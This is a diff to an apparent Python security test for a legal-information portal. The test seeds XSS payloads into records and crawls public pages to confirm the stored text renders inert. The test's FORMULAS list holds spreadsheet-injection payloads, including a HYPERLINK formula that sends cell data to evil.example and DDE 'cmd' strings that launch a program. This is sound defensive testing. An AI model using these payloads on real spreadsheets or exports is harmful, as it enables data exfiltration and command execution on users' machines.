@@ -7,7 +7,7 @@ comes from the model itself (pbgdpl._core.model_schema(), i.e. each type's descr
 coverage printed (fields written / string fields in the model) cannot drift from the code.
 
 Brief form (make test): every seed record's every free-text field holds one payload (spread over
-the corpus), one portal. PBGDPL_XSS_FULL=1: more rounds, each a fresh portal with the next payloads
+the corpus), one portal. PBGDPL_XSS_FULL=1: four rounds, each a fresh portal with the next payloads
 in each field."""
 import csv
 import io
@@ -34,8 +34,9 @@ except ImportError as e:  # the bindings are part of the test build (PBGDPL_BUIL
     CORE_ERROR = str(e)
 
 FULL = os.environ.get("PBGDPL_XSS_FULL") == "1"
-ROUNDS = 6 if FULL else 1
+ROUNDS = 4 if FULL else 1
 PAYLOADS = corpus()
+EXTRA = {"legal_documents": [("signed_by.above", {"authority": "tm", "title": "x"})]}
 FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
             "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1", "'=1+1", "-5"]
 CONTROL = re.compile(r"[\x00-\x09\x0b\x0c\x0e-\x1f]")
@@ -106,7 +107,7 @@ def cells(rec, path):
     for _, o in found:
         if last == "0" and isinstance(o, list):
             out += [(o, i) for i in range(len(o)) if isinstance(o[i], str)]
-        elif isinstance(o, dict) and (last in o and isinstance(o[last], str) or (last not in o and len(keys) == 1)):
+        elif isinstance(o, dict) and (isinstance(o.get(last), str) or last not in o):
             out.append((o, last))
     return out
 
@@ -123,6 +124,19 @@ def hostile_seed(dest, round_no):
     for key, kind in DATASET_KINDS.items():
         src = SEED_DIR / f"{key}.json"
         records = json.loads(src.read_text(encoding="utf-8"))
+        for rec in records[:1]:
+            # Lists the demo seed leaves empty: one element each, so their text fields have a place.
+            for path, item in EXTRA.get(key, []):
+                *up, last = path.split(".")
+                o = rec
+                for k in up:
+                    o = o.setdefault(k, {})
+                if not o.get(last):
+                    o[last] = [dict(item)]
+                    try:
+                        core.model_check(kind, rec)
+                    except Exception:
+                        del o[last]
         for rec in records:
             for path in fields.get(kind, []):
                 if (kind, path) in KEYS:
@@ -345,7 +359,7 @@ def test_public_pages_show_the_imported_text_inert(seeded):
             start += [f"/don-vi/{uid}/pbgdpl/", f"/don-vi/{uid}/pbgdpl/tien-ich/bieu-ngu/khung",
                       f"/don-vi/{uid}/pbgdpl/tien-ich/tin-moi/khung", f"/don-vi/{uid}/pbgdpl/tien-ich/hoi-dap/khung"]
         start += [re.sub(r"^https?://[^/]+", "", u) for u in re.findall(r"<loc>([^<]+)</loc>", p.get("/sitemap.xml").text)]
-        seen, shown, failures = crawl(p, check, list(dict.fromkeys(start)), list(written), 1200 if FULL else 260)
+        seen, shown, failures = crawl(p, check, list(dict.fromkeys(start)), list(written), 800 if FULL else 260)
         kinds = {written[m][0] for m in shown}
         print(f"\npublic crawl: {len(seen)} pages, {len(shown)} of {len(written)} stored payloads shown, kinds {sorted(kinds)}")
         assert not failures, failures[:5]
